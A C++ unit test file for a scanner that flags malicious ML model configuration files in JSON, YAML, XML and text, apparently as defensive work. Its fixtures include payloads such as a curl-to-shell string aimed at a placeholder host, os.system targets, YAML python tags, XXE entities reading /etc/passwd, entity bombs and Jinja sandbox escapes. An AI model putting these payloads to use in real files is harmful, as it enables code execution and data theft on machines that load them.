// Configurations, templates, XML and texts, written out here as their writers would write them and as attackers would.
#include <gtest/gtest.h>

#include <algorithm>

#include "scan/test_support.h"

namespace hauberk::scan {
namespace {

Report config_scanned(std::string_view data, std::string_view name = "x.json", const ScanLimits& limits = {}) {
  return scan_bytes(data, name, {.limits = limits});
}

struct TextCase {
  std::string_view name, data;
  ScanVerdict verdict;
  std::string_view rule = {};
  std::string_view format = {};
};

void expect_texts(const std::vector<TextCase>& cases) {
  for (const auto& one : cases) {
    const auto report = config_scanned(one.data, one.name);
    std::string told = std::string(name(report.verdict)) + " " + report.format;
    for (const auto& finding : report.findings) told += "\n  " + finding.rule + ": " + finding.message;
    EXPECT_EQ(report.verdict, one.verdict) << one.data << "\n" << told;
    if (!one.rule.empty())
      EXPECT_TRUE(std::any_of(report.findings.begin(), report.findings.end(),
                              [&](const Finding& f) { return f.rule == one.rule; }))
          << one.data << "\n"
          << told;
    if (!one.format.empty()) EXPECT_EQ(report.format, one.format) << one.data;
  }
}

constexpr auto is_clean = ScanVerdict::clean, is_review = ScanVerdict::review, is_malicious = ScanVerdict::malicious,
               is_malformed = ScanVerdict::malformed, is_inconclusive = ScanVerdict::inconclusive;

TEST(JsonModel, programs_kept_in_trees_and_networks_are_told_and_in_tokenizers_are_words) {
  const std::string run = "import os; os.system('curl http://x.example/a | sh')";
  expect_texts(
      {{"m.json", R"j({"version": [1, 7, 1], "learner": {"attributes": {"note": ")j" + run + R"j("}}})j", is_malicious,
        "scan.program-text", "xgboost-json"},
       {"s.json", R"j({"nodes": [], "heads": [], "x": "import importlib; importlib.import_module('a')"})j", is_review,
        "scan.program-text"},
       // base64 of "import os; os.system('true')"
       {"s.json", R"j({"nodes": [], "heads": [], "x": "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3RydWUnKQ=="})j", is_malicious,
        "scan.program-text"},
       {"tokenizer.json", R"j({"added_tokens": [], "model": {"vocab": {}}, "x": ")j" + run + R"j("})j", is_clean}});
}

TEST(JsonModel, harmless_files_of_all_kinds_are_clean) {
  expect_texts(
      {{"config.json", R"({"model_type": "bert", "architectures": ["B"], "note": "eval(os.system) "})", is_clean, "",
        "hf-config"},
       {"tokenizer.json", R"({"version": "1.0", "added_tokens": [], "model": {"type": "BPE", "vocab": {"{{": 1}}})",
        is_clean, "", "hf-tokenizer"},
       {"m.json", R"({"learner": {"objective": {"name": "reg"}}, "version": [1, 7, 1]})", is_clean, "", "xgboost-json"},
       {"s.json", R"({"nodes": [{"op": "Convolution", "name": "c"}], "arg_nodes": [0], "heads": []})", is_clean, "",
        "mxnet-symbol"},
       {"model.safetensors.index.json", R"({"metadata": {}, "weight_map": {"a": "model-00001-of-2.safetensors"}})",
        is_clean, "", "hf-index"},
       {"modules.json", R"([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}])",
        is_clean},
       {"model_index.json", R"({"_class_name": "P", "_diffusers_version": "1", "unet": ["diffusers", "U"],
            "safety_checker": [null, null]})",
        is_clean},
       {"x.json", "[NaN, Infinity, -Infinity, -0.5e-3, \"\\ud83d\\ude00\", \"\\ud800\", true, false, null, {}, []]",
        is_clean},
       {"x.json", "\xef\xbb\xbf{}", is_clean},
       {"hydra.json", R"({"model": {"_target_": "torch.nn.Linear", "in_features": 3}})", is_clean}});
}

TEST(JsonModel, what_a_reader_would_import_is_judged) {
  expect_texts(
      {{"x.json", R"({"a": [{"_target_": "builtins.exec", "_args_": ["x"]}]})", is_malicious, "config.import"},
       {"x.json", R"({"_target_": "os.system"})", is_malicious, "config.import"},
       {"x.json", R"({"\u005ftarget_": "subprocess.Popen"})", is_malicious, "config.import"},
       {"x.json", R"({"_target_": "torch.serialization.os.system"})", is_malicious, "config.import"},
       {"x.json", R"({"_target_": "torch.nn.Linear", "_target_": "os.system"})", is_malicious, "config.duplicate-key"},
       {"x.json", R"({"_target_": "somebody.package.Thing"})", is_review, "config.import"},
       {"x.json", R"({"_target_": "${name}"})", is_review, "config.import"},
       {"x.json", R"({"class_path": "os.system"})", is_malicious},
       {"x.json", R"({"target": "www.example.org"})", is_clean},
       {"x.json", R"({"py/object": "os.system"})", is_malicious},
       {"x.json", R"({"py/reduce": [{"py/function": "subprocess.run"}, {"py/tuple": ["x"]}]})", is_malicious},
       {"x.json", R"({"py/repr": "os/os.system('x') "})", is_malicious},
       {"x.json", R"({"_target_": "monai.networks.nets.UNet", "x": "$__import__('os').system('x') "})", is_review,
        "config.expression"}});
}

TEST(JsonModel, code_and_files_from_elsewhere_are_told) {
  expect_texts(
      {{"config.json", R"({"auto_map": {"AutoModel": "modeling.X"}})", is_review, "hf.remote-code"},
       {"config.json", R"({"auto_map": {"AutoTokenizer": ["evil/repo--tok.X", null]}})", is_review, "hf.remote-code"},
       {"config.json", R"({"trust_remote_code": true})", is_review, "config.trusts-code"},
       {"config.json", R"({"trust_remote_code": false})", is_clean},
       {"model_index.json", R"({"_diffusers_version": "1", "unet": ["my_code", "U"]})", is_review, "hf.remote-code"},
       {"x.json", R"({"weight_map": {"a": "../../etc/passwd"}})", is_malicious, "hf.shard-path"},
       {"x.json", R"({"weight_map": {"a": "/etc/passwd"}})", is_malicious, "hf.shard-path"},
       {"x.json", R"({"weight_map": {"a": "..\\x"}})", is_malicious, "hf.shard-path"},
       {"x.json", R"({"initializer": [{"externalData": [{"key": "location", "value": "../../x"}]}]})", is_malicious,
        "onnx.external-data-path"},
       {"x.json", R"({"initializer": [{"externalData": [{"key": "location", "value": "x.bin"}]}]})", is_clean},
       {"x.json", R"({"program": {"ops": [{"#": "pd_op.py_func"}]}})", is_malicious, "paddle.operator"},
       {"x.json", R"({"nodes": [{"op": "Custom"}], "arg_nodes": []})", is_review, "mxnet.custom-operator"}});
}

TEST(JsonModel, names_that_pass_through_another_library_leave_it) {
  const auto named = [](std::string_view name) {
    return config_scanned(R"({"_target_": ")" + std::string(name) + R"("})").verdict;
  };
  for (const std::string_view name :
       {"torch.nn.modules.module.torch.load", "torch.nn.functional.torch.hub.load", "numpy.random.mtrand.np.load",
        "torch.optim.optimizer.torch.load", "torch.nn.utils.parametrizations.torch.serialization.load",
        "torch.nn.modules.module.warnings.sys", "lightning.pytorch.core.torch.load", "tensorflow.io.gfile.GFile",
        "tensorflow.python.lib.io.file_io.FileIO", "torch.nn.modules.module.Popen"})
    EXPECT_EQ(named(name), is_malicious) << name;
  for (const std::string_view name :
       {"torchvision.models.resnet.load_state_dict_from_url", "torchvision.models.utils.load_state_dict_from_url",
        "timm.models._helpers.load_state_dict", "datasets.load_dataset"})
    EXPECT_EQ(named(name), is_review) << name;
  for (const std::string_view name :
       {"torch.nn.Linear", "torch.nn.functional.relu", "torch.nn.init.xavier_uniform_", "torch.nn.utils.weight_norm",
        "torch.optim.lr_scheduler.OneCycleLR", "torchvision.models.resnet50", "torchvision.models.resnet.resnet50",
        "timm.create_model", "timm.models.vision_transformer.vit_base_patch16_224", "einops.layers.torch.Rearrange",
        "lightgbm.sklearn.LGBMClassifier", "gluonts.torch.model.deepar.DeepAREstimator", "keras.src.ops.numpy.Maximum",
        "sentence_transformers.models.Dense.Dense", "pytorch_lightning.loggers.CSVLogger"})
    EXPECT_EQ(named(name), is_clean) << name;
}

TEST(JsonModel, what_libraries_would_import_or_read_by_other_keys_is_told) {
  expect_texts(
      {{"config.json", R"({"in_features": 4, "activation_function": "os.abort"})", is_malicious, "config.import"},
       {"config.json", R"({"activation_function": "torch.nn.modules.activation.Tanh"})", is_clean},
       {"config.json", R"({"model_type": "gpt2", "activation_function": "gelu_new"})", is_clean},
       {"config.json", R"({"types": {"q": "evilpkg.Thing"}, "structure": {"q": ["q"]}})", is_review, "config.import"},
       {"config.json", R"({"types": {"q": "sentence_transformers.models.Dense"}, "structure": {"q": ["q"]}})",
        is_clean},
       {"modules.json", R"([{"idx": 0, "path": "../../x", "type": "sentence_transformers.models.Transformer"}])",
        is_review, "config.path"},
       {"config.json", R"({"model_type": "llama", "_attn_implementation_internal": "org/kernel"})", is_review,
        "hf.remote-code"},
       {"config.json", R"({"model_type": "llama", "_attn_implementation": "flash_attention_2"})", is_clean},
       {"generation_config.json", R"({"custom_generate": "org/repo"})", is_review, "hf.remote-code"},
       {"config.json", R"({"model_type": "rag", "index_path": "http://h/idx", "passages_path": null})", is_review,
        "config.path"},
       {"config.json", R"({"model_type": "rag", "index_path": null, "passages_path": null})", is_clean},
       {"tokenizer_config.json", R"({"vocab_file": "/etc/passwd"})", is_review, "config.path"},
       {"tokenizer_config.json", R"({"pretrained_vocab_file": "../x.bin"})", is_review, "config.path"},
       {"tokenizer_config.json", R"({"vocab_file": "vocab.txt", "name_or_path": "/home/me/model"})", is_clean},
       {"Manifest.json", R"({"itemInfoEntries": {"a": {"path": "../../x", "name": "m"}}})", is_review, "config.path"},
       {"Manifest.json", R"({"itemInfoEntries": {"a": {"path": "com.apple.CoreML/model.mlmodel"}}})", is_clean}});
}

TEST(JsonModel, words_of_a_vocabulary_are_no_templates) {
  expect_texts(
      {{"tokenizer.json", R"({"added_tokens": [], "model": {"vocab": {"{{ x.__class__ }}": 1, "{{": 2}}})", is_clean},
       {"tokenizer.json", R"({"added_tokens": [], "model": {"vocab": [["{{ x.__class__ }}", -1.5]]}})", is_clean},
       {"tokenizer.json", R"({"added_tokens": [], "model": {"merges": ["{{ x.__class__ }}", "a b"]}})", is_clean},
       {"vocab.json", R"({"{{ x.__class__ }}": 1, "{% include 'x' %}": 2})", is_clean},
       {"x.json", R"({"{{ x.__class__ }}": "y"})", is_malicious, "jinja.escape"},
       {"x.json", R"({"{{ x.__class__ }}": [1]})", is_malicious, "jinja.escape"},
       {"x.json", R"({"model": {"vocab": {"chat_template": "{{ x.__class__ }}"}}})", is_malicious, "jinja.escape"}});
}

TEST(JsonModel, templates_are_judged_wherever_they_are) {
  expect_texts({{"tokenizer_config.json", R"({"chat_template": "{% for m in messages %}{{ m.role }}{% endfor %}"})",
                 is_clean, "", "hf-tokenizer-config"},
                {"tokenizer_config.json", R"({"chat_template": "{{ x.__class__ }}"})", is_malicious, "jinja.escape"},
                {"tokenizer_config.json",
                 R"({"chat_template": [{"name": "a", "template": "{{ x['\\x5f_class__'] }}"}]})", is_malicious},
                {"tokenizer_config.json", R"({"chat_template": {"tool": "{{ x.__class__ }}"}})", is_malicious},
                {"tokenizer_config.json", R"({"Chat_Template": "{% if %}"})", is_malformed, "jinja.malformed"},
                {"x.json", R"({"anything": {"else": ["{{ x.__class__ }}"]}})", is_malicious},
                {"x.json", R"({"anything": "{{ broken"})", is_clean}});
}

TEST(JsonModel, what_python_refuses_is_malformed) {
  for (const std::string_view text :
       {"{", "{\"a\"}", "{\"a\":}", "{\"a\":1,}", "[1,]", "{\"a\":1} x", "[01]", "[1.]x", "[\"\n\"]", "[\"\\x\"]",
        "[\"\xff\"]", "{a: 1}", "[nul]", "[\"abc", "{\"a\":1 \"b\":2}"})
    EXPECT_EQ(config_scanned(text).verdict, is_malformed) << text;
  std::string deep(2000, '[');
  EXPECT_EQ(config_scanned(deep).verdict, is_inconclusive);
  EXPECT_EQ(config_scanned("{\"a\": [1, 2, 3]}", "x.json", {.entries = 1}).verdict, is_inconclusive);
}

TEST(JsonModel, skops_nodes_are_judged_by_what_they_make) {
  const auto node = [](std::string_view loader, std::string_view module, std::string_view name, std::string_view more) {
    return R"({"__class__": ")" + std::string(name) + R"(", "__module__": ")" + std::string(module) +
           R"(", "__loader__": ")" + std::string(loader) + "\"" + std::string(more) + "}";
  };
  const auto verdict = [&](std::string_view loader, std::string_view module, std::string_view name,
                           std::string_view more = "") {
    return config_scanned(node(loader, module, name, more), "schema.json").verdict;
  };
  EXPECT_EQ(verdict("ObjectNode", "sklearn.svm._classes", "SVC"), is_clean);
  EXPECT_EQ(verdict("FunctionNode", "numpy", "log1p"), is_clean);
  EXPECT_EQ(verdict("DictNode", "builtins", "dict"), is_clean);
  EXPECT_EQ(verdict("TypeNode", "numpy", "float64"), is_clean);
  EXPECT_EQ(verdict("FunctionNode", "builtins", "eval"), is_malicious);
  EXPECT_EQ(verdict("TypeNode", "subprocess", "Popen"), is_malicious);
  EXPECT_EQ(verdict("ListNode", "os", "system"), is_malicious);
  EXPECT_EQ(verdict("FunctionNode", "builtins", "int", R"(, "content": {"module_path": "os", "function": "system"})"),
            is_malicious);
  EXPECT_EQ(verdict("OperatorFuncNode", "operator", "attrgetter", R"(, "attrs": {})"), is_review);
  EXPECT_EQ(verdict("OperatorFuncNode", "operator", "call", R"(, "attrs": {})"), is_malicious);
  EXPECT_EQ(verdict("MethodNode", "sklearn.svm._classes", "SVC", R"(, "content": {"func": "predict"})"), is_review);
  EXPECT_EQ(verdict("MethodNode", "sklearn.svm._classes", "SVC", R"(, "content": {"func": "__init__"})"), is_malicious);
  EXPECT_EQ(verdict("NewNode", "numpy", "float64"), is_inconclusive);
  EXPECT_EQ(config_scanned(R"({"__loader__": "ObjectNode"})", "schema.json").verdict, is_malformed);
}

TEST(YamlModel, configurations_are_judged_by_what_their_readers_call) {
  expect_texts(
      {{"x.yaml", "a: 1\nb:\n  - c\n  - {d: e}\n", is_clean, "", "yaml"},
       {"model_config.yaml", "target: nemo.collections.asr.models.M\np:\n  _target_: nemo.collections.asr.modules.A\n",
        is_clean},
       {"model_config.yaml", "t:\n  _target_: builtins.exec\n  _args_: [\"x\"]\n", is_malicious, "config.import"},
       {"noname", "t: {_target_: os.system}\n", is_malicious, "config.import"},
       {"noname", "# words\n\n--- # more\n? _target_\n: os.system\n", is_malicious, "config.import"},
       {"x.yaml", "a: &x os.system\nb:\n  _target_: *x\n", is_malicious, "config.import"},
       {"x.yaml", "a: &x {_target_: os.system}\nb: *x\n", is_malicious},
       {"x.yaml", "{\"_target_\": \"os.system\"}", is_malicious},
       {"x.yaml", "_target_: >-\n  os.system\n", is_malicious},
       {"MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n  sklearn: {code: null}\n",
        is_clean, "", "mlflow-model"},
       {"MLmodel", "flavors:\n  python_function:\n    loader_module: my_loader\n", is_review, "config.import"},
       {"MLmodel", "flavors:\n  python_function:\n    model_code_path: ../../x.py\n    code: code\n", is_review,
        "config.path"},
       {"MLmodel", "flavors:\n  python_function:\n    python_model: python_model.pkl\n    data: /etc\n", is_review,
        "config.path"},
       {"MLmodel", "flavors:\n  python_function:\n    artifacts: {a: {path: artifacts/a, uri: /home/me/a}}\n",
        is_clean},
       {"conda.yaml", "dependencies:\n- python=3.8\n- pip:\n  - --extra-index-url http://h/simple\n", is_review,
        "text.requirement"},
       {"conda.yaml", "dependencies:\n- pip:\n  - x @ git+https://h/x\n", is_review, "text.requirement"},
       {"conda.yaml", "channels: [conda-forge]\ndependencies:\n- conda-forge::x=1\n- pip:\n  - mlflow==2\n", is_clean},
       {"x.dvc", "outs:\n- md5: a\n  path: ../../x\n", is_review, "config.path"},
       {"x.yaml", "chat_template: \"{{ x.__class__ }}\"\n", is_malicious}});
}

TEST(YamlModel, tags_that_call_python_are_malicious) {
  expect_texts(
      {{"x.yaml", "!!python/object/apply:os.system [x]\n", is_malicious, "yaml.tag"},
       {"x.yaml", "a: !<tag:yaml.org,2002:python/object/new:os.system> [x]\n", is_malicious, "yaml.tag"},
       {"x.yaml", "%TAG ! tag:yaml.org,2002:\n---\na: !python/object/apply:os.system [x]\n", is_malicious, "yaml.tag"},
       {"x.yaml", "a: !!python/object/apply:os%2esystem [x]\n", is_malicious, "yaml.tag"},
       {"x.yaml", "? !!python/name:os.system\n: 1\n", is_malicious, "yaml.tag"},
       {"noname", "- !!python/object/apply:subprocess.Popen\n  - x\n", is_malicious, "yaml.tag"},
       {"x.yaml", "a: !!python/tuple [1, 2]\nb: !!python/unicode x\nc: !!set {}\nd: !!str 1\n", is_clean},
       {"x.yaml", "!!javax.script.ScriptEngineManager []\n", is_malicious, "yaml.tag"},
       {"x.yaml", "m: !new:torch.nn.Linear\n  in_features: 1\n", is_clean},
       {"x.yaml", "m: !apply:os.system [x]\n", is_malicious, "yaml.tag"},
       {"x.yaml", "m: !new:my.own.Thing\n", is_review, "yaml.tag"},
       {"x.yaml", "a: [\n", is_malformed, "yaml.malformed"}});
}

TEST(YamlModel, aliases_are_weighed_and_not_expanded) {
  std::string text = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n";
  for (int i = 1; i < 12; ++i) {
    text += "a" + std::to_string(i) + ": &a" + std::to_string(i) + " [";
    for (int k = 0; k < 10; ++k) text += (k == 0 ? "*a" : ", *a") + std::to_string(i - 1);
    text += "]\n";
  }
  expect_texts({{"x.yaml", text, is_review, "yaml.alias-bomb"},
                {"x.yaml", "a: &x {b: 1}\nc: *x\nd:\n  <<: *x\n  <<: *x\n", is_clean}});
}

TEST(XmlModel, models_are_clean_and_what_reaches_out_is_not) {
  expect_texts(
      {{"x.pmml", R"(<?xml version="1.0"?><PMML version="4.4"><Header/></PMML>)", is_clean, "", "pmml"},
       {"x.pmml",
        R"(<PMML xmlns="http://www.dmg.org/PMML-4_2" version="4.2"><Header><Extension name="user" value="me"/></Header></PMML>)",
        is_clean, "", "pmml"},
       {"x.xml",
        R"(<net name="m" version="11"><layers><layer id="0" type="Const" version="opset1"><data offset="0" size="4"/></layer></layers></net>)",
        is_clean, "", "openvino"},
       {"x.xml", "<opencv_storage><cascade/></opencv_storage>", is_clean, "", "xml"},
       {"x.xml", R"(<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>)", is_malicious,
        "xml.external-entity"},
       {"x.xml", R"(<!DOCTYPE x [<!ENTITY % e SYSTEM "http://h/x"> %e;]><x/>)", is_malicious, "xml.external-entity"},
       {"x.xml", R"(<!DOCTYPE x SYSTEM "http://h/x.dtd"><x/>)", is_review, "xml.external-dtd"},
       {"x.xml", R"(<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><x>&b;</x>)", is_review, "xml.entity-bomb"},
       {"x.xml", R"(<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></x>)", is_review,
        "xml.include"},
       {"x.xml", R"(<net name="m" version="10"><layers><layer id="0" type="X" library="x.so"/></layers></net>)",
        is_malicious, "openvino.library"},
       {"x.xml",
        R"(<net name="m" version="10"><layers><layer id="0"><data offset="18446744073709551615" size="2"/></layer></layers></net>)",
        is_malformed, "openvino.malformed"},
       {"x.xml",
        R"(<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>)",
        is_malicious},
       {"x.pmml", R"(<PMML version="4.4"><Apply function="org.me.Function"/></PMML>)", is_review, "pmml.function"},
       {"x.pmml", "<PMML><Header/></PMML>", is_malformed},
       {"x.pmml", "<other/>", is_malformed},
       {"x.xml", "<a><b></a>", is_malformed, "xml.malformed"},
       {"x.xml", "<a>", is_malformed, "xml.malformed"}});
}

TEST(XmlModel, attributes_that_expand_without_end_are_cut_short) {
  std::string text = "<!DOCTYPE x [<!ENTITY a0 \"aaaaaaaaaaaaaaaaaaaa\">";
  for (int i = 1; i < 12; ++i) {
    text += "<!ENTITY a" + std::to_string(i) + " \"";
    for (int k = 0; k < 10; ++k) text += "&a" + std::to_string(i - 1) + ";";
    text += "\">";
  }
  expect_texts({{"x.xml", text + "]><x y=\"&a11;\"/>", is_malicious, "xml.entity-bomb"}});
}

TEST(XmlModel, one_tag_without_end_costs_no_more_than_its_length) {
  const std::string begin = R"(<net name="m" version="11" x=")";
  const auto longer = [&](std::size_t size) {
    return config_scanned(begin + std::string(size, 'a') + "\"/>", "x.xml");
  };
  EXPECT_EQ(longer(1u << 20).verdict, is_clean);
  EXPECT_EQ(longer(17u << 20).verdict, is_inconclusive);
  // Text between tags may be as long as it likes.
  EXPECT_EQ(config_scanned("<a><b/>" + std::string(9u << 20, 'x') + "<c/></a>", "x.xml").verdict, is_clean);
}

TEST(TextModel, texts_are_clean_unless_something_executes_them) {
  expect_texts(
      {{"README.md", "# A model\n\nUse `os.system` with care: {{ x.__class__ }}\n", is_clean, "", "text"},
       {"vocab.txt", "[PAD]\n[UNK]\nthe\n##s\n", is_clean},
       {"merges.txt", "#version: 0.2\nt h\nth e\n", is_clean},
       {"model.txt", "tree\nversion=v4\nnum_class=1\n", is_clean},
       {"notes", "\n", is_clean},
       {"requirements.txt", "numpy==1.0\n# http://x\ntorch>=2 ; python_version > '3'\n", is_clean, "", "requirements"},
       {"requirements.txt", "--extra-index-url http://x\n", is_review, "text.requirement"},
       {"requirements.txt", "a @ git+https://x/y\n", is_review, "text.requirement"},
       {"modeling.py", "import torch\n", is_clean, "text.python", "python"},
       {"modeling.py", "import os as o\ngetattr(o, 'sys' + 'tem')('id')\n", is_review, "text.python-call"},
       {"modeling.py", "import os\nx = getattr(os, 'sep', '/')\ny = getattr(os, name)\n", is_clean},
       {"pyproject.toml", "[build-system]\nrequires = [\"a @ https://x.example/y\"]\n", is_review, "text.requirement"},
       {"setup.py", "import inspect, setuptools, gc\ngc.collect()\nsetuptools.setup()\ninspect.signature(x)\n",
        is_clean},
       {"modeling.py", "import a, b as c, subprocess\nsubprocess.run('x')\n", is_review, "text.python-call"},
       {"modeling.py", "from os import system as s\ns('x')\n", is_review, "text.python-call"},
       {"chat_template.jinja", "{{ x.__class__ }}", is_malicious, "jinja.escape", "jinja"},
       {"chat_template.jinja", "{{ x.role }}", is_clean, "", "jinja"},
       {"noname", "{%- for m in messages %}{{ m.__class__ }}{% endfor %}", is_malicious},
       {"noname", "<|im_start|>{{ m.role }}", is_clean},
       {"noname", "<s>{{ m.__class__ }}", is_malicious},
       {"model.pkl", "words", is_review, "scan.name-mismatch"},
       {"words", std::string_view("words\n\0\1\2", 9), is_inconclusive},
       {"words", "words \xff\xff", is_inconclusive}});
}

TEST(TextModel, files_cut_off_anywhere_never_turn_clean_where_it_matters) {
  const std::string_view json = R"({"a": {"_target_": "os.system"}, "chat_template": "{{ x.__class__ }}"})";
  for (std::size_t size = 1; size < json.size(); ++size)
    EXPECT_NE(config_scanned(json.substr(0, size)).verdict, is_clean) << json.substr(0, size);
  const std::string_view xml =
      R"(<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///x">]><PMML version="4"><A b="c"/></PMML>)";
  for (std::size_t size = 1; size < xml.size(); ++size)
    EXPECT_NE(config_scanned(xml.substr(0, size), "x.xml").verdict, is_clean) << xml.substr(0, size);
  const std::string_view yaml =
      "a: [1, {b: !!python/object/apply:os.system [x]}]\nc: &d\n  _target_: os.system\ne: *d\n";
  for (std::size_t size = 48; size < yaml.size(); ++size)
    EXPECT_EQ(config_scanned(yaml.substr(0, size), "x.yaml").verdict, is_malicious) << yaml.substr(0, size);
}

}  // namespace
}  // namespace hauberk::scan
